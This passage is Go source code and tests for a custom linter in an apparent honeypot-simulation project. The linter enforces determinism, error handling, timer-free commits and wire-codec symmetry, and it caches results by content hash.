// on its own goroutine with an isolated file set and importer once all
// its module dependencies finished, bounded by a worker semaphore.
// Results are deterministic regardless of scheduling: per-package
// findings are sorted, the aggregate is sorted again, and fact
// provenance is computed over sorted key orders.

// CheckOptions configures one engine run.
type CheckOptions struct {
	// Patterns are go list package patterns; default "./...".
	Patterns []string
	// Analyzers is the rule set; default All().
	Analyzers []*Analyzer
	// CacheDir enables the on-disk result cache when non-empty.
	CacheDir string
	// Workers bounds concurrent package analysis; default GOMAXPROCS.
	Workers int
}

// CheckResult is the aggregate of one engine run.
type CheckResult struct {
	// Findings is every finding across all packages, sorted by position.
	Findings []Finding
	// Packages is the number of module packages analyzed.
	Packages int
	// CacheHits and CacheMisses count packages served from / written to
	// the result cache. Both stay zero with caching disabled.
	CacheHits   int
	CacheMisses int
	// Facts is the merged fact store over every analyzed package.
	Facts *Facts
}

// engineNode is one module package's scheduling state.
type engineNode struct {
	lp   *listedPackage
	deps []*engineNode
	done chan struct{}

	err      error
	findings []Finding    // package-local, sorted
	facts    PackageFacts // own facts only
	closure  *Facts       // deps' closures + own facts
	factID   string       // transitive fact hash (see factHash)
	hit      bool
}

// Check loads, analyzes and aggregates the packages matched by the
// patterns. Any load or type error aborts the run with an error — the
// cmd/lint exit-2 path — rather than producing partial findings.
func (l *Loader) Check(opts CheckOptions) (*CheckResult, error) {
	if len(opts.Patterns) == 0 {
		opts.Patterns = []string{"./..."}
	}
	if opts.Analyzers == nil {
		opts.Analyzers = All()
	}
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}

	listed, err := l.goList(opts.Patterns...)
	if err != nil {
		return nil, err
	}
	l.addExports(listed)

	byPath := map[string]*engineNode{}
	var nodes []*engineNode // go list -deps order: dependencies first
	for _, lp := range listed {
		if !isModulePackage(lp) {
			continue
		}
		if lp.Error != nil {
			return nil, fmt.Errorf("lint: %s: %s", lp.ImportPath, lp.Error.Err)
		}
		n := &engineNode{lp: lp, done: make(chan struct{})}
		for _, imp := range lp.Imports {
			if dep, ok := byPath[imp]; ok {
				n.deps = append(n.deps, dep)
			}
		}
		byPath[lp.ImportPath] = n
		nodes = append(nodes, n)
	}

	sem := make(chan struct{}, workers)
	var wg sync.WaitGroup
	for _, n := range nodes {
		wg.Add(1)
		go func(n *engineNode) {
			defer wg.Done()
			defer close(n.done)
			for _, dep := range n.deps {
				<-dep.done
				if dep.err != nil {
					n.err = fmt.Errorf("lint: %s: dependency %s failed", n.lp.ImportPath, dep.lp.ImportPath)
					return
				}
			}
			sem <- struct{}{}
			defer func() { <-sem }()
			n.err = l.analyzeNode(n, opts)
		}(n)
	}
	wg.Wait()

	res := &CheckResult{Facts: NewFacts()}
	for _, n := range nodes {
		if n.err != nil {
			return nil, n.err
		}
		res.Packages++
		if opts.CacheDir != "" {
			if n.hit {
				res.CacheHits++
			} else {
				res.CacheMisses++
			}
		}
		res.Findings = append(res.Findings, n.findings...)
		res.Facts.Merge(n.facts)
	}
	sortFindings(res.Findings)
	return res, nil
}

// analyzeNode analyzes one package: serve it from the cache when the
// content hash matches, otherwise type-check and run the rules, then
// store the result. Either way the node ends up with findings, its own
// facts, the merged closure its dependents need, and a transitive fact
// hash for their cache keys.
func (l *Loader) analyzeNode(n *engineNode, opts CheckOptions) error {
	depHashes := make([]string, len(n.deps))
	for i, dep := range n.deps {
		depHashes[i] = dep.factID
	}

	var key string
	if opts.CacheDir != "" {
		var err error
		key, err = cacheKey(opts.Analyzers, n.lp, depHashes)
		if err != nil {
			return err
		}
		if e := loadCacheEntry(opts.CacheDir, key); e != nil {
			n.hit = true
			n.findings = e.Findings
			n.facts = e.Facts
			n.finishFacts(depHashes)
			return nil
		}
	}

	pkg, err := l.checkIsolated(n.lp)
	if err != nil {
		return err
	}
	if len(pkg.TypeErrors) > 0 {
		return fmt.Errorf("lint: %s: %v", n.lp.ImportPath, pkg.TypeErrors[0])
	}

	view := NewFacts()
	for _, dep := range n.deps {
		view.Merge(dep.closure.m)
	}
	n.facts = ComputeFacts(pkg, view)
	view.Merge(n.facts)
	n.findings = runPackage(pkg, opts.Analyzers, view)
	sortFindings(n.findings)
	n.closure = view
	n.factID = factHash(n.lp.ImportPath, n.facts, depHashes)

	if opts.CacheDir != "" {
		return storeCacheEntry(opts.CacheDir, &cacheEntry{
			Schema:   cacheEntrySchema,
			Key:      key,
			Path:     n.lp.ImportPath,
			Findings: n.findings,
			Facts:    n.facts,
		})
	}
	return nil
}

// finishFacts rebuilds the closure and fact hash for a cache-served
// node from its dependencies' closures and its cached own facts.
func (n *engineNode) finishFacts(depHashes []string) {
	view := NewFacts()
	for _, dep := range n.deps {
		view.Merge(dep.closure.m)
	}
	view.Merge(n.facts)
	n.closure = view
	n.factID = factHash(n.lp.ImportPath, n.facts, depHashes)
}

// sortedFactKeys is a debugging helper used by tests: the stored fact
// keys in deterministic order.
func (f *Facts) sortedFactKeys() []string {
	keys := make([]string, 0, len(f.m))
	for k := range f.m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
