package lint

import (
	"go/ast"
	"go/types"
)

// discardAllowedMethods are method names whose errors carry no signal in
// this codebase: connection deadline setters (failure means the
// connection is already dead, which the next read reports) and
// best-effort teardown closers.
var discardAllowedMethods = map[string]bool{
	"SetDeadline": true, "SetReadDeadline": true, "SetWriteDeadline": true,
	"Close": true, "CloseWrite": true,
}

// discardAllowedReceivers never return a non-nil error from any method:
// their Write family exists only to satisfy io interfaces (hash.Hash
// documents that Write never fails).
var discardAllowedReceivers = map[[2]string]bool{
	{"strings", "Builder"}: true,
	{"bytes", "Buffer"}:    true,
	{"hash", "Hash"}:       true,
}

// discardAllowedPkgs allows bare calls of terminal-output helpers whose
// error returns (broken stdout/stderr) have no recovery path.
var discardAllowedPkgs = map[string]bool{"fmt": true}

// ErrorDiscard flags silently discarded error results: `_ = f()`
// assignments of error-typed values (including `v, _ := f()` where the
// blanked position is the error) and bare call statements whose results
// include an error. Deferred teardown calls are exempt, as are the
// allowlisted deadline/teardown methods and fmt printers.
var ErrorDiscard = &Analyzer{
	Name: "error-discard",
	Doc:  "no silent discard of error returns outside the teardown allowlist",
	Run: func(p *Pass) {
		info := p.Pkg.Info
		inspect(p, func(n ast.Node) bool {
			switch st := n.(type) {
			case *ast.AssignStmt:
				checkAssignDiscard(p, st)
			case *ast.ExprStmt:
				if call, ok := st.X.(*ast.CallExpr); ok && !allowedDiscard(info, call) {
					if callReturnsError(info, call) {
						p.Reportf(st.Pos(), "call result includes an error that is silently dropped; handle it or assign it explicitly")
					}
				}
			}
			return true
		})
	},
}

func checkAssignDiscard(p *Pass, st *ast.AssignStmt) {
	info := p.Pkg.Info
	if len(st.Rhs) == 1 && len(st.Lhs) > 1 {
		// Multi-value form: x, _ := f().
		call, ok := st.Rhs[0].(*ast.CallExpr)
		if !ok || allowedDiscard(info, call) {
			return
		}
		tup, ok := info.Types[st.Rhs[0]].Type.(*types.Tuple)
		if !ok {
			return
		}
		for i, lhs := range st.Lhs {
			if i < tup.Len() && isBlank(lhs) && isErrorType(tup.At(i).Type()) {
				p.Reportf(lhs.Pos(), "error result of call is discarded into _; handle it or name it")
			}
		}
		return
	}
	for i, lhs := range st.Lhs {
		if i >= len(st.Rhs) || !isBlank(lhs) {
			continue
		}
		rhs := st.Rhs[i]
		if t, ok := info.Types[rhs]; !ok || !isErrorType(t.Type) {
			continue
		}
		if call, ok := rhs.(*ast.CallExpr); ok && allowedDiscard(info, call) {
			continue
		}
		p.Reportf(lhs.Pos(), "error value is discarded into _; handle it or name it")
	}
}

func isBlank(e ast.Expr) bool {
	id, ok := e.(*ast.Ident)
	return ok && id.Name == "_"
}

// callReturnsError reports whether the call's results include an error.
func callReturnsError(info *types.Info, call *ast.CallExpr) bool {
	t, ok := info.Types[call]
	if !ok || t.Type == nil {
		return false
	}
	if tup, isTuple := t.Type.(*types.Tuple); isTuple {
		for i := 0; i < tup.Len(); i++ {
			if isErrorType(tup.At(i).Type()) {
				return true
			}
		}
		return false
	}
	return isErrorType(t.Type)
}

// allowedDiscard applies the allowlist to a call expression.
func allowedDiscard(info *types.Info, call *ast.CallExpr) bool {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return false
	}
	if pkg := importedPkgPath(info, sel.X); pkg != "" {
		return discardAllowedPkgs[pkg]
	}
	if discardAllowedMethods[sel.Sel.Name] {
		return true
	}
	if t, ok := info.Types[sel.X]; ok {
		if path, name, named := namedPathName(t.Type); named && discardAllowedReceivers[[2]string{path, name}] {
			return true
		}
	}
	return false
}
