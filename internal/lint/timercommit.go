package lint

import (
	"go/ast"
)

// TimerCommit enforces the commit-trigger contract: WAL syncs and
// snapshot seals happen every N records (Options.SyncEvery,
// SnapshotEvery) — a count, never a timer. A timer-driven commit makes
// the on-disk artifact depend on wall-clock scheduling, which breaks
// byte-identical replay and hides the batching bugs the count makes
// deterministic. The rule flags any durable write or snapshot publish
// (by fact, so a wrapper two packages away still counts) inside a
// select case or range body driven by time.After, time.Tick, or a
// Ticker/Timer channel. A timer that merely wakes a poll loop is fine:
// the commit must live outside the timer-driven body.
var TimerCommit = &Analyzer{
	Name: "timer-commit",
	Doc:  "WAL syncs and snapshot seals are count-based; no durable write or publish may be driven by a timer",
	Run: func(p *Pass) {
		inspect(p, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.SelectStmt:
				for _, c := range n.Body.List {
					cc, ok := c.(*ast.CommClause)
					if !ok || !timerDrivenComm(p, cc.Comm) {
						continue
					}
					for _, s := range cc.Body {
						reportTimerCommits(p, s)
					}
				}
			case *ast.RangeStmt:
				if timerChan(p, n.X) {
					reportTimerCommits(p, n.Body)
				}
			}
			return true
		})
	},
}

// timerDrivenComm reports whether a select comm clause receives from a
// timer channel (`<-t.C:` or `v := <-time.After(d):`).
func timerDrivenComm(p *Pass, comm ast.Stmt) bool {
	var recv ast.Expr
	switch s := comm.(type) {
	case *ast.ExprStmt:
		recv = s.X
	case *ast.AssignStmt:
		if len(s.Rhs) == 1 {
			recv = s.Rhs[0]
		}
	}
	un, ok := recv.(*ast.UnaryExpr)
	if !ok {
		return false
	}
	return timerChan(p, un.X)
}

// timerChan reports whether an expression is a timer-backed channel:
// time.After(...), time.Tick(...), or the C field of a time.Ticker or
// time.Timer.
func timerChan(p *Pass, e ast.Expr) bool {
	switch e := ast.Unparen(e).(type) {
	case *ast.CallExpr:
		sel, ok := e.Fun.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		return importedPkgPath(p.Pkg.Info, sel.X) == "time" &&
			(sel.Sel.Name == "After" || sel.Sel.Name == "Tick")
	case *ast.SelectorExpr:
		if e.Sel.Name != "C" {
			return false
		}
		t := p.Pkg.Info.Types[e.X].Type
		if t == nil {
			return false
		}
		path, name, ok := namedPathName(t)
		return ok && path == "time" && (name == "Ticker" || name == "Timer")
	}
	return false
}

// reportTimerCommits flags every durable write or publish reached in a
// timer-driven body.
func reportTimerCommits(p *Pass, body ast.Node) {
	ast.Inspect(body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		fn := calleeFunc(p.Pkg.Info, call.Fun)
		if fn == nil {
			return true
		}
		facts := p.Facts.Of(fn)
		switch {
		case facts.Durable != "":
			p.Reportf(call.Pos(), "durable write (%s) driven by a timer; the sync contract is count-based (SyncEvery), never timer-based", facts.Durable)
		case facts.Publishes != "":
			p.Reportf(call.Pos(), "snapshot publish (%s) driven by a timer; the seal contract is count-based (SnapshotEvery), never timer-based", facts.Publishes)
		}
		return true
	})
}
