package lint

import (
	"go/types"
)

// builderToReader maps Builder marshal methods to their Reader decode
// counterparts where the names differ: Raw appends go back out through
// fixed-length Bytes reads, and mpint-from-bytes reads back as a plain
// mpint.
var builderToReader = map[string]string{
	"Raw":        "Bytes",
	"MPIntBytes": "MPInt",
}

// builderNonField are exported *Builder methods that manage the buffer
// rather than appending a wire field.
var builderNonField = map[string]bool{"Bytes": true, "Len": true, "Reset": true}

// readerNonField are exported *Reader methods that inspect or configure
// state rather than decoding a wire field.
var readerNonField = map[string]bool{"Err": true, "Remaining": true, "Rest": true, "SetMaxStringLen": true, "SetErrf": true}

// WireSymmetry checks that a wire codec package stays round-trippable:
// every exported field-appending method on Builder (those returning
// *Builder) must have a same-named decode method on Reader, and every
// exported decode method on Reader must have a matching Builder
// appender. It activates in any package declaring both a Builder and a
// Reader type — in this repository, internal/wire.
var WireSymmetry = &Analyzer{
	Name: "wire-symmetry",
	Doc:  "every Builder marshal method needs a matching Reader decode method, and vice versa",
	Run: func(p *Pass) {
		if p.Pkg.Pkg == nil {
			return
		}
		builder := lookupNamed(p.Pkg.Pkg, "Builder")
		reader := lookupNamed(p.Pkg.Pkg, "Reader")
		if builder == nil || reader == nil {
			return
		}
		builderFields := map[string]*types.Func{}
		anyAppender := false
		for i := 0; i < builder.NumMethods(); i++ {
			m := builder.Method(i)
			if !m.Exported() || builderNonField[m.Name()] {
				continue
			}
			if !returnsPointerTo(m, builder) {
				continue
			}
			anyAppender = true
			builderFields[m.Name()] = m
		}
		if !anyAppender {
			return // not a chainable wire builder; out of scope
		}
		readerFields := map[string]*types.Func{}
		for i := 0; i < reader.NumMethods(); i++ {
			m := reader.Method(i)
			if m.Exported() && !readerNonField[m.Name()] {
				readerFields[m.Name()] = m
			}
		}
		readerToBuilder := map[string]string{}
		for b, r := range builderToReader {
			readerToBuilder[r] = b
		}
		for name, m := range builderFields {
			want := name
			if mapped, ok := builderToReader[name]; ok {
				want = mapped
			}
			if _, ok := readerFields[want]; !ok {
				p.Reportf(m.Pos(), "Builder.%s has no matching Reader.%s decode method; the codec cannot round-trip", name, want)
			}
		}
		for name, m := range readerFields {
			want := name
			if mapped, ok := readerToBuilder[name]; ok {
				want = mapped
			}
			if _, ok := builderFields[want]; !ok {
				p.Reportf(m.Pos(), "Reader.%s has no matching Builder.%s marshal method; the codec cannot round-trip", name, want)
			}
		}
	},
}

func lookupNamed(pkg *types.Package, name string) *types.Named {
	obj, ok := pkg.Scope().Lookup(name).(*types.TypeName)
	if !ok {
		return nil
	}
	named, _ := obj.Type().(*types.Named)
	return named
}

// returnsPointerTo reports whether method m's results include *named.
func returnsPointerTo(m *types.Func, named *types.Named) bool {
	sig, ok := m.Type().(*types.Signature)
	if !ok {
		return false
	}
	for i := 0; i < sig.Results().Len(); i++ {
		if ptr, isPtr := sig.Results().At(i).Type().(*types.Pointer); isPtr {
			if ptr.Elem() == named {
				return true
			}
		}
	}
	return false
}
