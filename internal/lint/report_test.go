package lint

import (
	"bytes"
	"go/token"
	"os"
	"path/filepath"
	"testing"
)

// TestReportGolden pins the -json schema byte-for-byte: consumers
// (check.sh, dashboards) parse this format, so any change must show up
// as a reviewed golden diff plus a schema version bump.
func TestReportGolden(t *testing.T) {
	findings := []Finding{
		{
			Rule:    "determinism-taint",
			Pos:     token.Position{Filename: "/mod/internal/report/report.go", Line: 42, Column: 17},
			Message: "nondeterministic value (time.Now) flows into durable write ((*os.File).Write); the artifact path must be a pure function of the seed",
		},
		{
			Rule:    "atomicio-bypass",
			Pos:     token.Position{Filename: "/mod/cmd/serve/main.go", Line: 97, Column: 13},
			Message: "os.WriteFile writes the file non-atomically; route artifact writes through internal/atomicio so a crash never exposes a partial file",
		},
	}
	var buf bytes.Buffer
	if err := NewReport(findings, "/mod", 37, 4).Write(&buf); err != nil {
		t.Fatal(err)
	}

	golden := filepath.Join("testdata", "report.golden")
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("report drifted from %s:\n--- got ---\n%s\n--- want ---\n%s", golden, buf.Bytes(), want)
	}
}

// TestReportEmpty pins the zero-finding shape: findings must encode as
// an empty array, never null, so jq-style consumers don't special-case.
func TestReportEmpty(t *testing.T) {
	var buf bytes.Buffer
	if err := NewReport(nil, "/mod", 1, 0).Write(&buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(buf.Bytes(), []byte(`"findings": []`)) {
		t.Errorf("empty report should carry an empty array:\n%s", buf.String())
	}
}
