package lint

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"

	"honeyfarm/internal/atomicio"
)

// analyzerVersion participates in every cache key; bump it whenever a
// rule's behavior or the fact model changes so stale results can never
// be served from disk.
const analyzerVersion = "honeyfarm-lint/7"

// cacheEntry is one package's cached analysis result: the exact key it
// was computed under, the package findings (pre-baseline, sorted), and
// the package's own facts so dependents can be analyzed without
// re-type-checking this package.
type cacheEntry struct {
	Schema   string       `json:"schema"`
	Key      string       `json:"key"`
	Path     string       `json:"path"`
	Findings []Finding    `json:"findings"`
	Facts    PackageFacts `json:"facts"`
}

const cacheEntrySchema = "honeyfarm-lint-cache-v1"

// cacheKey derives the content hash a package's result is stored under.
// It covers everything the findings can depend on: the analyzer
// version, the rule set, the package identity, every source file's
// content, and the fact hashes of the module dependencies — so a fact
// change deep in the import graph invalidates every dependent.
func cacheKey(rules []*Analyzer, lp *listedPackage, depHashes []string) (string, error) {
	h := sha256.New()
	fmt.Fprintf(h, "version %s\n", analyzerVersion)
	names := make([]string, len(rules))
	for i, a := range rules {
		names[i] = a.Name
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Fprintf(h, "rule %s\n", n)
	}
	fmt.Fprintf(h, "package %s\n", lp.ImportPath)
	fmt.Fprintf(h, "dir %s\n", lp.Dir)
	files := append([]string(nil), lp.GoFiles...)
	sort.Strings(files)
	for _, name := range files {
		f, err := os.Open(filepath.Join(lp.Dir, name))
		if err != nil {
			return "", fmt.Errorf("lint: hashing %s: %v", name, err)
		}
		fmt.Fprintf(h, "file %s\n", name)
		_, err = io.Copy(h, f)
		f.Close()
		if err != nil {
			return "", fmt.Errorf("lint: hashing %s: %v", name, err)
		}
		fmt.Fprintf(h, "\n")
	}
	sorted := append([]string(nil), depHashes...)
	sort.Strings(sorted)
	for _, dh := range sorted {
		fmt.Fprintf(h, "dep %s\n", dh)
	}
	return hex.EncodeToString(h.Sum(nil)), nil
}

// factHash summarizes a package's analysis-visible surface for its
// dependents' cache keys: its own facts plus its dependencies' hashes,
// so invalidation propagates transitively through packages whose own
// facts did not change.
func factHash(path string, own PackageFacts, depHashes []string) string {
	h := sha256.New()
	fmt.Fprintf(h, "package %s\n", path)
	//lint:ignore error-discard marshaling a map of plain string structs cannot fail
	data, _ := json.Marshal(own) // map keys marshal sorted: deterministic
	h.Write(data)
	sorted := append([]string(nil), depHashes...)
	sort.Strings(sorted)
	for _, dh := range sorted {
		fmt.Fprintf(h, "dep %s\n", dh)
	}
	return path + ":" + hex.EncodeToString(h.Sum(nil))
}

// loadCacheEntry returns the cached result for key, or nil on any miss
// (absent, unreadable, schema drift, key mismatch). Corrupt entries are
// treated as misses, never errors: the cache is an accelerator only.
func loadCacheEntry(dir, key string) *cacheEntry {
	data, err := os.ReadFile(cachePath(dir, key))
	if err != nil {
		return nil
	}
	var e cacheEntry
	if json.Unmarshal(data, &e) != nil || e.Schema != cacheEntrySchema || e.Key != key {
		return nil
	}
	if e.Facts == nil {
		e.Facts = PackageFacts{}
	}
	return &e
}

// storeCacheEntry persists one package result. Written through
// atomicio so a crash mid-write can never leave a truncated entry that
// json.Unmarshal would half-accept.
func storeCacheEntry(dir string, e *cacheEntry) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("lint: creating cache dir: %v", err)
	}
	data, err := json.Marshal(e)
	if err != nil {
		return fmt.Errorf("lint: encoding cache entry: %v", err)
	}
	return atomicio.WriteFileBytes(cachePath(dir, e.Key), data)
}

func cachePath(dir, key string) string {
	return filepath.Join(dir, key+".json")
}
