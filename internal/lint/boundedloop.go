package lint

import (
	"go/ast"
)

// BoundedLoop forbids condition-less `for {}` loops inside the
// deterministic simulation packages. Heavy-tailed rejection-sampling
// loops (drawing until a fresh IP, hash or slot is found) must carry an
// explicit iteration cap with a deterministic fallback, otherwise a
// pathological configuration (a saturated AS, an exhausted pool) hangs
// dataset generation instead of completing. The wire path is exempt:
// accept loops there run until Close by design.
var BoundedLoop = &Analyzer{
	Name: "bounded-loop",
	Doc:  "simulation-path sampling loops must have an explicit iteration cap",
	Run: func(p *Pass) {
		if !deterministicPkg(p.Pkg.Path) {
			return
		}
		inspect(p, func(n ast.Node) bool {
			if loop, ok := n.(*ast.ForStmt); ok && loop.Cond == nil {
				p.Reportf(loop.Pos(), "condition-less for-loop in a deterministic package; add an iteration cap with a deterministic fallback")
			}
			return true
		})
	},
}
