package lint

import (
	"go/ast"
)

// DeterministicPkgSuffixes lists the import-path suffixes of the
// packages under the determinism contract: everything on the
// record-level simulation and analysis path. Within these packages the
// global math/rand source and the wall clock are off limits — all
// randomness must flow through an explicitly seeded *rand.Rand and all
// timestamps must derive from the configured epoch, so that one seed
// always regenerates the identical dataset. The wire path (honeypot,
// sshwire, telnet, netsim, farm, replay) is exempt: it serves real
// connections and legitimately reads the clock.
var DeterministicPkgSuffixes = []string{
	"honeyfarm", // module root: Simulate and the artifact pipeline
	"cmd/loadgen",
	"internal/analysis",
	"internal/faults",
	"internal/geo",
	"internal/iofault",
	"internal/loadgen",
	"internal/malware",
	"internal/metrics",
	"internal/query",
	"internal/report",
	"internal/scenario",
	"internal/shard",
	"internal/stats",
	"internal/wal",
	"internal/wire",
	"internal/workload",
}

// deterministicPkg reports whether the package is under the determinism
// contract.
func deterministicPkg(path string) bool {
	for _, suffix := range DeterministicPkgSuffixes {
		if pathHasSuffix(path, suffix) {
			return true
		}
	}
	return false
}

// allowedRandNames are the math/rand selectors that do not touch the
// package-global source: constructors taking an explicit source or rand,
// and type names.
var allowedRandNames = map[string]bool{
	"New": true, "NewSource": true, "NewZipf": true,
	"Rand": true, "Source": true, "Source64": true, "Zipf": true,
}

// allowedRandV2Names is the equivalent set for math/rand/v2, whose
// top-level functions draw from a process-global runtime-seeded state.
var allowedRandV2Names = map[string]bool{
	"New": true, "NewPCG": true, "NewChaCha8": true, "NewZipf": true,
	"Rand": true, "Source": true, "PCG": true, "ChaCha8": true, "Zipf": true,
}

// wallClockNames are the time package selectors that read the wall
// clock.
var wallClockNames = map[string]bool{"Now": true, "Since": true, "Until": true}

// Nondeterminism enforces the determinism contract: within the packages
// matching DeterministicPkgSuffixes, no use of the global math/rand
// source and no wall-clock reads.
var Nondeterminism = &Analyzer{
	Name: "nondeterminism",
	Doc:  "no global math/rand state or wall-clock reads in the simulation/analysis path",
	Run: func(p *Pass) {
		if !deterministicPkg(p.Pkg.Path) {
			return
		}
		inspect(p, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			switch importedPkgPath(p.Pkg.Info, sel.X) {
			case "math/rand":
				if !allowedRandNames[sel.Sel.Name] {
					p.Reportf(sel.Pos(), "rand.%s draws from the global math/rand source; thread an explicitly seeded *rand.Rand instead", sel.Sel.Name)
				}
			case "math/rand/v2":
				if !allowedRandV2Names[sel.Sel.Name] {
					p.Reportf(sel.Pos(), "rand.%s draws from the process-global rand/v2 state; thread an explicitly seeded *rand.Rand instead", sel.Sel.Name)
				}
			case "time":
				if wallClockNames[sel.Sel.Name] {
					p.Reportf(sel.Pos(), "time.%s reads the wall clock in a deterministic package; derive timestamps from the configured epoch", sel.Sel.Name)
				}
			}
			return true
		})
	},
}
