package lint

import (
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// writeModule materializes a scratch module for engine tests. The
// dependent package sits under internal/report so the deterministic
// rules are live; the dependency sits under internal/clock, off the
// deterministic path, like the wire packages in the real module.
func writeModule(t *testing.T, clockSrc string) string {
	t.Helper()
	dir := t.TempDir()
	files := map[string]string{
		"go.mod":                  "module scratch\n\ngo 1.22\n",
		"internal/clock/clock.go": clockSrc,
		"internal/report/report.go": `package report

import (
	"os"
	"strconv"

	"scratch/internal/clock"
)

func persist(f *os.File, data []byte) error {
	_, err := f.Write(data)
	return err
}

func Dump(f *os.File) error {
	ts := clock.Stamp()
	return persist(f, []byte(strconv.FormatInt(ts, 10)))
}
`,
	}
	for name, src := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const wallClockSrc = `package clock

import "time"

func Stamp() int64 { return time.Now().UnixNano() }
`

const fixedClockSrc = `package clock

func Stamp() int64 { return 42 }
`

// TestCrossPackageTaint is the end-to-end case the engine exists for: a
// wall-clock read in a package outside the determinism contract flows
// through an exported function into a durable write inside it. No
// single-package analysis can see this; the propagated Nondet fact
// does.
func TestCrossPackageTaint(t *testing.T) {
	dir := writeModule(t, wallClockSrc)
	res, err := NewLoader(dir).Check(CheckOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) != 1 {
		t.Fatalf("findings = %v, want exactly one determinism-taint", res.Findings)
	}
	f := res.Findings[0]
	if f.Rule != "determinism-taint" {
		t.Fatalf("rule = %s, want determinism-taint", f.Rule)
	}
	if filepath.Base(f.Pos.Filename) != "report.go" {
		t.Fatalf("finding in %s, want report.go (the sink side)", f.Pos.Filename)
	}
}

// TestCacheWarmAndInvalidation drives the content-hash cache through
// its three interesting states: a cold run misses everything, an
// unchanged warm run hits everything with identical findings, and an
// edit deep in the dependency graph invalidates the dependent through
// the propagated fact hash — even though the dependent's own sources
// never changed.
func TestCacheWarmAndInvalidation(t *testing.T) {
	dir := writeModule(t, wallClockSrc)
	cache := filepath.Join(dir, "lintcache")
	check := func() *CheckResult {
		t.Helper()
		res, err := NewLoader(dir).Check(CheckOptions{CacheDir: cache})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}

	cold := check()
	if cold.CacheHits != 0 || cold.CacheMisses != cold.Packages {
		t.Fatalf("cold run: %d hits / %d misses over %d packages, want 0 / all",
			cold.CacheHits, cold.CacheMisses, cold.Packages)
	}
	if len(cold.Findings) != 1 {
		t.Fatalf("cold findings = %v, want the one cross-package taint", cold.Findings)
	}

	warm := check()
	if warm.CacheMisses != 0 || warm.CacheHits != warm.Packages {
		t.Fatalf("warm run: %d hits / %d misses over %d packages, want all / 0",
			warm.CacheHits, warm.CacheMisses, warm.Packages)
	}
	if !reflect.DeepEqual(cold.Findings, warm.Findings) {
		t.Fatalf("warm findings differ from cold:\ncold: %v\nwarm: %v", cold.Findings, warm.Findings)
	}

	// Removing the wall-clock read from the dependency must re-analyze
	// BOTH packages: clock by content hash, report by dependency fact
	// hash — and the taint finding must disappear.
	if err := os.WriteFile(filepath.Join(dir, "internal/clock/clock.go"), []byte(fixedClockSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	fixed := check()
	if fixed.CacheMisses != 2 {
		t.Fatalf("after dependency edit: %d misses, want 2 (clock by content, report by dep facts)", fixed.CacheMisses)
	}
	if len(fixed.Findings) != 0 {
		t.Fatalf("after dependency edit findings = %v, want none", fixed.Findings)
	}

	// A cosmetic edit to the dependency that leaves its facts unchanged
	// re-analyzes only the dependency itself; the dependent still hits.
	if err := os.WriteFile(filepath.Join(dir, "internal/clock/clock.go"),
		[]byte("// clock provides stamps.\n"+fixedClockSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	cosmetic := check()
	if cosmetic.CacheMisses != 1 || cosmetic.CacheHits != cosmetic.Packages-1 {
		t.Fatalf("after cosmetic edit: %d hits / %d misses, want all-but-one / 1",
			cosmetic.CacheHits, cosmetic.CacheMisses)
	}
}

// TestEngineDeterministicOrder runs the parallel engine repeatedly over
// the real module (uncached) and requires identical finding slices —
// scheduling must never leak into output order.
func TestEngineDeterministicOrder(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	var first []Finding
	for i := 0; i < 3; i++ {
		res, err := NewLoader(root).Check(CheckOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			first = res.Findings
			continue
		}
		if !reflect.DeepEqual(first, res.Findings) {
			t.Fatalf("run %d produced different findings:\nfirst: %v\nthis:  %v", i, first, res.Findings)
		}
	}
}
