package lint

import (
	"go/ast"
	"go/types"
)

// SnapshotMutation enforces the snapshot immutability contract:
// internal/query publishes sealed snapshots through an atomic.Pointer
// and readers access them lock-free, so a post-publication write is a
// data race that no lock will ever surface. The rule tracks, within a
// function, which local values have been handed to an
// atomic.Pointer.Store and flags any later write through them
// (field assignment, element assignment, increment). Build the next
// snapshot fresh instead — publication is the freeze point.
var SnapshotMutation = &Analyzer{
	Name: "snapshot-mutation",
	Doc:  "no writes through a value after it was published via atomic.Pointer.Store",
	Run: func(p *Pass) {
		for _, file := range p.Pkg.Files {
			if p.Pkg.Generated[file] {
				continue
			}
			for _, decl := range file.Decls {
				if fd, ok := decl.(*ast.FuncDecl); ok && fd.Body != nil {
					w := &snapMutWalker{p: p, published: map[types.Object]bool{}}
					w.stmts(fd.Body.List)
				}
			}
		}
	},
}

type snapMutWalker struct {
	p         *Pass
	published map[types.Object]bool
}

func (w *snapMutWalker) stmts(list []ast.Stmt) {
	for _, s := range list {
		w.stmt(s)
	}
}

// stmt walks one statement: Store calls publish their argument's root
// object; once any object is published, every statement is additionally
// inspected for writes through published roots.
func (w *snapMutWalker) stmt(s ast.Stmt) {
	if len(w.published) > 0 {
		w.checkWrites(s)
	}
	switch s := s.(type) {
	case *ast.ExprStmt:
		w.recordStore(s.X)
	case *ast.BlockStmt:
		w.stmts(s.List)
	case *ast.IfStmt:
		if s.Init != nil {
			w.stmt(s.Init)
		}
		w.stmts(s.Body.List)
		if s.Else != nil {
			w.stmt(s.Else)
		}
	case *ast.ForStmt:
